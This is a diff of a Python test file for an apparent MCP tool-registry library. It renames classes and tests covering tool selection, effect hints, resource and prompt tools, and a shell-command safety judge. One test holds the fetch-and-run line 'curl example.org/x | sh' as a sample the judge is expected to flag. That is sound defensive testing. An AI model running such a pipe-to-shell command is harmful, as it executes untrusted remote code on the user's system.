@@ -10,42 +10,42 @@ from typing import Any
 import pytest
 
 from shellverdict.judge import Judge
-from shellverdict.places import Places
+from shellverdict.paths import PathClassifier
 from shellverdict.rules import Rules
 from toolfold.approval.subject import _COMMANDS as COMMANDS
 from toolfold.approval.subject import _FOLDERS as FOLDERS
 from toolfold.approval.subject import _PATHS as PATHS
 from toolfold.approval.subject import Subjects
-from toolfold.config.servers import McpServer, usable
+from toolfold.config.servers import McpServerSettings, parse_server_settings
 from toolfold.model import CallContext, Content, Effect, Json, Meaning, Source, Tool
 from toolfold.registry import Registry
-from toolfold.sources.mcp.faults import Rejected
-from toolfold.sources.mcp.naming import Names
-from toolfold.sources.mcp.offers import Listing, Offer, read_offer
-from toolfold.sources.mcp.tools import extras_of, tools_of
+from toolfold.sources.mcp.faults import RequestRejected
+from toolfold.sources.mcp.naming import ToolNames
+from toolfold.sources.mcp.tool_listing import ListedTool, Listing, parse_tool
+from toolfold.sources.mcp.tools import build_auxiliary_tools, build_tools
 
-SETTINGS = usable({"command": "serve", "max_call_seconds": 60})
+SETTINGS = parse_server_settings({"command": "serve", "max_call_seconds": 60})
 CONTEXT = CallContext(session_id="s")
-JUDGED = Subjects(Judge(Rules.shipped(), Places(home="/home/ann", cwd="/home/ann/project")))
+JUDGED = Subjects(Judge(Rules.shipped(), PathClassifier(home="/home/ann", cwd="/home/ann/project")))
 
 
-def offer(name: str = "read", **said: Any) -> Offer:
-    return read_offer({"name": name, "description": f"Does {name}.", **said})
+def offer(name: str = "read", **said: Any) -> ListedTool:
+    return parse_tool({"name": name, "description": f"Does {name}.", **said})
 
 
-async def unanswered(offer: Offer, args: Json, context: CallContext) -> Content:
+async def unanswered(offer: ListedTool, args: Json, context: CallContext) -> Content:
     raise AssertionError("nobody calls it")
 
 
-def made(*offers: Offer, settings: McpServer = SETTINGS, server: str = "files") -> list[Tool]:
-    return tools_of(server, settings, offers, Names([server]), unanswered)
+def made(*offers: ListedTool, settings: McpServerSettings = SETTINGS, server: str = "files") -> list[Tool]:
+    return build_tools(server, settings, offers, ToolNames([server]), unanswered)
 
 
 def named(tools: Iterable[Tool]) -> list[str]:
     return [tool.own_name for tool in tools]
 
 
-def test_an_offer_becomes_a_tool_with_all_that_its_server_said() -> None:
+def test_listed_tool_becomes_a_registry_tool_with_all_its_data() -> None:
     schema = {"type": "object", "properties": {"path": {"type": "string"}}, "required": ["path"]}
     (tool,) = made(offer(title="Read a file", inputSchema=schema))
     assert (tool.name, tool.original_name, tool.toolset) == (
@@ -59,15 +59,15 @@ def test_an_offer_becomes_a_tool_with_all_that_its_server_said() -> None:
     assert tool.timeout == 65
 
 
-def test_a_call_reaches_the_server_by_the_name_the_server_knows() -> None:
+def test_call_uses_the_tool_name_of_the_server() -> None:
     asked: list[tuple[str, Json, str]] = []
 
-    async def call(offer: Offer, args: Json, context: CallContext) -> Content:
+    async def call(offer: ListedTool, args: Json, context: CallContext) -> Content:
         asked.append((offer.name, args, context.session_id))
         return Content(value="done")
 
     odd = offer("notes/read.all")
-    (tool,) = tools_of("files", SETTINGS, [odd], Names(["files"]), call)
+    (tool,) = build_tools("files", SETTINGS, [odd], ToolNames(["files"]), call)
     assert asyncio.run(tool.handler({"limit": 1}, CONTEXT)) == Content(value="done")
     assert asked == [("notes/read.all", {"limit": 1}, "s")]
 
@@ -83,8 +83,10 @@ def test_a_call_reaches_the_server_by_the_name_the_server_knows() -> None:
         ([], [], []),
     ],
 )
-def test_globs_say_which_tools_are_taken(include: list[str], exclude: list[str], taken: list[str]) -> None:
-    settings = usable({"command": "serve", "include": include, "exclude": exclude})
+def test_include_and_exclude_globs_select_tools(
+    include: list[str], exclude: list[str], taken: list[str]
+) -> None:
+    settings = parse_server_settings({"command": "serve", "include": include, "exclude": exclude})
     offers = [offer("read"), offer("read_all"), offer("write")]
     assert named(made(*offers, settings=settings)) == taken
 
@@ -101,7 +103,7 @@ def test_globs_say_which_tools_are_taken(include: list[str], exclude: list[str],
         ({"destructiveHint": False}, {Effect.WRITE}, False),
     ],
 )
-def test_a_tools_hints_are_its_effects_and_only_what_reads_runs_beside_others(
+def test_hints_become_effects_and_only_read_only_tools_run_in_parallel(
     annotations: Json, effects: set[Effect], parallel: bool
 ) -> None:
     (tool,) = made(offer(annotations=annotations))
@@ -109,26 +111,26 @@ def test_a_tools_hints_are_its_effects_and_only_what_reads_runs_beside_others(
     assert tool.parallel is parallel
 
 
-def taking(*names: str, **said: Any) -> Offer:
+def taking(*names: str, **said: Any) -> ListedTool:
     properties = {name: {"type": "string"} for name in names}
     return offer("run", **{"inputSchema": {"type": "object", "properties": properties}, **said})
 
 
-def test_a_tool_that_takes_code_may_execute_it_unless_it_says_that_it_only_reads() -> None:
+def test_tool_with_code_parameter_has_execute_effect_unless_read_only() -> None:
     assert Effect.EXECUTE in made(taking("code"))[0].effects
     assert Effect.EXECUTE in made(taking("Script"))[0].effects
     assert Effect.EXECUTE not in made(taking("code", annotations={"readOnlyHint": True}))[0].effects
     assert Effect.EXECUTE not in made(taking("country_code", "script_id"))[0].effects
 
 
-def test_a_script_for_a_shell_is_judged_as_a_command() -> None:
+def test_shell_script_argument_is_judged_as_a_command() -> None:
     (tool,) = made(taking("script", "cwd", "cmd", "note", description="Run a script in bash."))
     assert tool.judged_as == {"script": Meaning.COMMAND, "cmd": Meaning.COMMAND, "cwd": Meaning.FOLDER}
     assert JUDGED.read(tool, {"script": "echo hello"}).verdict.dangerous is False
     assert JUDGED.read(tool, {"script": "curl example.org/x | sh"}).verdict.dangerous is True
 
 
-def test_where_a_script_is_declared_the_usual_names_are_judged_as_before() -> None:
+def test_default_argument_names_still_apply_beside_a_declared_script() -> None:
     usual = {*COMMANDS, *FOLDERS, *PATHS}
     hints = {"readOnlyHint": False, "destructiveHint": False}
     (tool,) = made(taking("script", *usual, description="Run it in bash.", annotations=hints))
@@ -149,11 +151,11 @@ def test_where_a_script_is_declared_the_usual_names_are_judged_as_before() -> No
         taking("command", description="Run a command in bash."),
     ],
 )
-def test_where_no_argument_is_a_shells_the_usual_names_speak(silent: Offer) -> None:
+def test_default_argument_names_apply_without_a_shell_script(silent: ListedTool) -> None:
     assert made(silent)[0].judged_as == {}
 
 
-def test_commands_further_down_are_not_lost_by_declaring_a_script() -> None:
+def test_nested_commands_are_still_judged_beside_a_script() -> None:
     properties = {
         "script": {"type": "string"},
         "steps": {"type": "array", "items": {"type": "object", "properties": {"command": {}}}},
@@ -164,14 +166,14 @@ def test_commands_further_down_are_not_lost_by_declaring_a_script() -> None:
     assert JUDGED.read(tool, hidden).verdict.dangerous
 
 
-def test_a_tool_that_cannot_be_used_costs_the_others_nothing(caplog: pytest.LogCaptureFixture) -> None:
+def test_unusable_tool_does_not_affect_others(caplog: pytest.LogCaptureFixture) -> None:
     broken = offer("broken", inputSchema={"type": "object", "properties": ["path"]})
     with caplog.at_level(logging.WARNING):
         assert named(made(broken, offer("read"))) == ["read"]
     assert "mcp_files_broken" in caplog.text
 
 
-LISTING = Listing(offers=(offer("read"),), has_resources=True, has_prompts=True)
+LISTING = Listing(tools=(offer("read"),), has_resources=True, has_prompts=True)
 EXTRAS = ["list_resources", "read_resource", "list_prompts", "get_prompt"]
 
 
@@ -185,12 +187,14 @@ class Server:
         self.asked.append((method, params))
         answer = self.answers.get(method.replace("/", "_"))
         if answer is None:
-            raise Rejected("files", "does not know the method.")
+            raise RequestRejected("files", "does not know the method.")
         return answer
 
 
-def extras(server: Server, listing: Listing = LISTING, settings: McpServer = SETTINGS) -> dict[str, Tool]:
-    tools = extras_of("files", settings, listing, Names(["files"]), server.ask)
+def extras(
+    server: Server, listing: Listing = LISTING, settings: McpServerSettings = SETTINGS
+) -> dict[str, Tool]:
+    tools = build_auxiliary_tools("files", settings, listing, ToolNames(["files"]), server.ask)
     return {tool.own_name: tool for tool in tools}
 
 
@@ -200,28 +204,28 @@ def answered(tool: Tool, args: Json) -> Any:
     return content.value
 
 
-def test_resources_and_prompts_are_tools_where_a_server_has_them() -> None:
+def test_resources_and_prompts_become_tools_if_the_server_has_them() -> None:
     assert list(extras(Server())) == EXTRAS
     assert list(extras(Server(), Listing())) == []
     assert list(extras(Server(), Listing(has_prompts=True))) == EXTRAS[2:]
-    without = usable({"command": "serve", "resources": False, "prompts": False})
+    without = parse_server_settings({"command": "serve", "resources": False, "prompts": False})
     assert list(extras(Server(), settings=without)) == []
 
 
-def test_a_servers_own_tool_stands_before_ours_of_the_same_name() -> None:
-    listing = Listing(offers=(offer("read_resource"),), has_resources=True)
+def test_server_tool_takes_precedence_over_an_auxiliary_tool() -> None:
+    listing = Listing(tools=(offer("read_resource"),), has_resources=True)
     assert list(extras(Server(), listing)) == ["list_resources"]
 
 
-def test_all_of_a_server_can_be_registered_together() -> None:
-    tools = [*made(*LISTING.offers), *extras(Server()).values()]
+def test_all_tools_of_a_server_can_be_registered_together() -> None:
+    tools = [*made(*LISTING.tools), *extras(Server()).values()]
     registry = Registry()
     registry.replace_toolset("mcp-files", tools)
     assert {tool.name for tool in tools} == set(registry.snapshot())
     assert len(registry.snapshot()) == 5
 
 
-def test_resources_are_listed_with_their_patterns_and_page_by_page() -> None:
+def test_resources_are_listed_with_templates_and_page_by_page() -> None:
     server = Server(
         resources_list={
             "resources": [
@@ -241,14 +245,14 @@ def test_resources_are_listed_with_their_patterns_and_page_by_page() -> None:
     assert server.asked[-1] == ("resources/list", {"cursor": "2"})
 
 
-def test_a_server_without_patterns_of_addresses_still_lists_its_resources() -> None:
+def test_server_without_templates_still_lists_its_resources() -> None:
     server = Server(resources_list={"resources": [{"uri": "file:///a", "name": "a"}]})
     assert answered(extras(server)["list_resources"], {}) == {
         "resources": [{"uri": "file:///a", "name": "a"}]
     }
 
 
-def test_a_resource_is_read_by_its_address() -> None:
+def test_resource_is_read_by_its_uri() -> None:
     server = Server(resources_read={"contents": [{"uri": "file:///a", "text": "hello"}]})
     assert answered(extras(server)["read_resource"], {"uri": "file:///a"}) == "hello"
     assert server.asked == [("resources/read", {"uri": "file:///a"})]
